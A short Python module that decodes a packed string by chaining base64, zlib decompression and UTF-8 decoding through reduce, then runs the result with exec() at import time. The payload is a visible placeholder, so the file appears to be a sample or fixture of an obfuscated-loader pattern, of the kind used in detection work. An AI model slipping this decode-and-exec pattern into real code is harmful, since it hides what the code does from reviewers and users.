"""Restores a bundled snippet through a chain of steps folded with reduce, then runs it."""
import base64
import codecs
import zlib
from functools import partial, reduce

PACKED = "FAKEPAYLOAD0FAKEPAYLOAD1FAKEPAYLOAD2FAKEPAYLOAD3=="

PIPELINE = (
    base64.urlsafe_b64decode,
    zlib.decompress,
    partial(codecs.decode, encoding="utf-8"),
)


def restore(packed):
    return reduce(lambda value, step: step(value), PIPELINE, packed)


exec(restore(PACKED))
